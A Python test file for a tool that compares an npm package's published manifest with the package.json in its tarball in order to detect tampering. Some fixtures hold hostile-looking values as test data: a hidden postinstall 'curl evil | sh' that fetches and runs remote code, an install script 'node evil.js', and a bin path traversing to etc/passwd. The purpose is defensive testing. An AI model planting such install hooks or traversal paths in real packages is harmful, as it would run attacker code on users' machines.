"""The manifest must be the tarball's, in the form npm gives both when it publishes (pure)."""

from __future__ import annotations

from typing import Any

from publish_guard.npm.manifest_check import as_published, mismatches
from publish_guard.npm.tarball import Package


def _package(manifest: dict[str, Any], *files: str) -> Package:
    return Package(manifest, frozenset({"package.json", *files}))


BASE: dict[str, Any] = {
    "name": "@acme/widget",
    "version": "1.0.0",
    "dependencies": {"left-pad": "^1.3.0"},
    "scripts": {"test": "node test.js"},
    "bin": "cli.js",
    "engines": {"node": ">=18"},
}


def test_what_npm_sends_for_a_package_matches_it() -> None:
    sent = {
        **BASE,
        "bin": {"widget": "cli.js"},  # npm made the string an object
        "_id": "@acme/widget@1.0.0",
        "_nodeVersion": "20.20.2",
        "_npmVersion": "11.19.1",
        "readme": "# widget",
        "gitHead": "0123abc",
        "dist": {"integrity": "sha512-x", "shasum": "y", "tarball": "http://r/x.tgz"},
    }
    assert mismatches(sent, _package(BASE, "cli.js")) == []


def test_npms_own_normalisations_are_not_differences() -> None:
    packed = {
        "name": "w",
        "version": "v1.0.0",
        "dependencies": {"a": "1", "b": "2"},
        "optionalDependencies": {"b": "2"},
        "bundledDependencies": True,
        "scripts": {"build": "node_modules/.bin/tsc", "weird": 3},
        "directories": {"bin": "./bin"},
        "os": "linux",
    }
    sent = {
        "name": "w",
        "version": "1.0.0",
        "dependencies": {"a": "1"},
        "optionalDependencies": {"b": "2"},
        "bundleDependencies": ["a", "b"],
        "scripts": {"build": "tsc", "install": "node-gyp rebuild"},
        "gypfile": True,
        "bin": {"w1": "bin/w1", "w2": "bin/sub/w2"},
        "os": ["linux"],
    }
    package = _package(packed, "binding.gyp", "bin/w1", "bin/sub/w2", "bin/.hidden")
    assert mismatches(sent, package) == []
    assert as_published(packed, package.files)["scripts"]["install"] == "node-gyp rebuild"


def test_a_hidden_install_script_or_dependency_is_found() -> None:
    clean = {**BASE, "bin": {"widget": "cli.js"}}
    hidden_script = {**BASE, "scripts": {**BASE["scripts"], "postinstall": "curl evil | sh"}}
    assert mismatches(clean, _package(hidden_script, "cli.js")) == ["scripts.postinstall"]
    hidden_dependency = {**BASE, "dependencies": {**BASE["dependencies"], "evil": "*"}}
    assert mismatches(clean, _package(hidden_dependency, "cli.js")) == ["dependencies"]
    other = {**clean, "name": "@acme/other", "version": "2.0.0", "engines": {"node": "*"}}
    assert mismatches(other, _package(BASE, "cli.js")) == ["name", "version", "engines"]
    no_gyp = {**clean, "gypfile": False}
    assert mismatches(no_gyp, _package({**BASE, "gypfile": False}, "cli.js", "binding.gyp")) == []
    # a .gyp file at the root makes npm run node-gyp at install whatever the manifest says:
    # both sides have that install script, and a manifest that names another one differs
    assert mismatches(clean, _package(BASE, "cli.js", "binding.gyp")) == []
    other_install = {**clean, "scripts": {**BASE["scripts"], "install": "node evil.js"}}
    assert mismatches(other_install, _package(BASE, "cli.js", "binding.gyp")) == ["scripts.install"]


def test_bin_targets_are_compared_as_npm_makes_them_safe() -> None:
    packed = {"name": "w", "version": "1.0.0", "bin": {"../../x/w": "./../../etc/passwd"}}
    assert as_published(packed, frozenset())["bin"] == {"w": "etc/passwd"}
    sent = {"name": "w", "version": "1.0.0", "bin": {"w": "etc/passwd"}}
    assert mismatches(sent, _package(packed)) == []
